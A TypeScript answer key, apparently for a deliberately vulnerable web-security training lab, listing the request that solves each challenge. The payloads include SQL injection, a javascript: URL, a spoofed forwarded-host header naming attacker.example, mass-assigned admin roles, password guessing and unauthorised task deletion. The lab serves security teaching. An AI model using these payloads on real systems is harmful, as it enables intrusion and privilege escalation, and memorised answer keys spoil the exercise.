import { z } from 'zod'

import type { Caller } from '@/features/lab/challenge/callers'
import type { TargetKey } from '@/features/lab/challenge/targets'

import { demoId, demoPassword } from '@kit/db/demo/demo'

interface Request {
  caller: Caller
  target: TargetKey
  args: unknown
  headers?: string
}

interface Solution extends Omit<Request, 'args'> {
  /** A request whose reply the arguments need. */
  first?: Request
  args: object | ((reply: string) => object)
}

const acmeTask = (number: number) => demoId('task', `acme ${number}`)

/** What solves each challenge. */
export const solutions: Readonly<Record<string, Solution>> = {
  'no-validation': {
    caller: 'nomad@gatehouse.test',
    target: 'no-validation/updateImageAction',
    args: { image: 'javascript:alert(1)' },
  },
  'no-authentication': {
    caller: 'signed-out',
    target: 'no-authentication/deleteTaskAction',
    args: { taskId: acmeTask(1) },
  },
  'no-ownership': {
    caller: 'editor@acme.test',
    target: 'no-ownership/deleteTaskAction',
    args: { taskId: acmeTask(2) },
  },
  'no-membership': {
    caller: 'editor@globex.test',
    target: 'no-membership/completeTaskAction',
    args: { organization: 'acme', taskId: acmeTask(1) },
  },
  'no-role': {
    caller: 'admin@acme.test',
    target: 'no-role/changeRoleAction',
    args: { organization: 'acme', memberId: demoId('member', 'acme admin@acme.test'), role: 'owner' },
  },
  'no-permission': {
    caller: 'viewer@acme.test',
    target: 'no-permission/createTaskAction',
    args: { organization: 'acme', title: 'Hello' },
  },
  'no-rate-limit': {
    caller: 'signed-out',
    target: 'no-rate-limit/signInAction',
    args: { email: 'owner@globex.test', password: ['dragon', demoPassword] },
  },
  'captured-secret': {
    first: { caller: 'owner@acme.test', target: 'captured-secret/the page', args: {} },
    caller: 'nomad@gatehouse.test',
    target: 'captured-secret/its form',
    args: (fields) => z.record(z.string(), z.string()).parse(JSON.parse(fields)),
  },
  'mass-assignment': {
    caller: 'nomad@gatehouse.test',
    target: 'mass-assignment/updateProfileAction',
    args: { name: 'Nomad', role: 'super-admin' },
  },
  'page-only': {
    caller: 'viewer@acme.test',
    target: 'page-only/renameOrganizationAction',
    args: { organization: 'acme', name: 'Mine' },
  },
  'believed-ids': {
    caller: 'nomad@gatehouse.test',
    target: 'believed-ids/createTaskAction',
    args: {
      title: 'Pay',
      organizationId: demoId('organization', 'acme'),
      createdBy: demoId('user', 'owner@acme.test'),
    },
  },
  'internal-errors': {
    caller: 'nomad@gatehouse.test',
    target: 'internal-errors/updateNameAction',
    args: { name: 'a\0b' },
  },
  'exported-helper': {
    caller: 'signed-out',
    target: 'exported-helper/setRole',
    args: [demoId('user', 'editor@acme.test'), 'owner'],
  },
  'foreign-site': {
    caller: 'owner@acme.test',
    target: 'foreign-site/deleteTaskAction',
    args: { taskId: acmeTask(2) },
    headers: 'X-Forwarded-Host: attacker.example',
  },
  robots: {
    caller: 'signed-out',
    target: 'no-captcha/sendMessageAction',
    args: { email: 'a@example.com', message: ['1', '2', '3', '4', '5'] },
  },
  'raw-row': {
    caller: 'nomad@gatehouse.test',
    target: 'raw-row/findPersonAction',
    args: { email: 'owner@acme.test' },
  },
  'raw-sql': {
    caller: 'viewer@acme.test',
    target: 'raw-sql/searchTasksAction',
    args: { organization: 'acme', text: "' OR '1' LIKE '1" },
  },
  transfer: {
    first: { caller: 'nomad@gatehouse.test', target: 'transfer/codeOf', args: ['acme'] },
    caller: 'nomad@gatehouse.test',
    target: 'transfer/acceptTransferAction',
    args: (code) => ({ organization: 'acme', code: z.string().parse(JSON.parse(code)) }),
  },
}
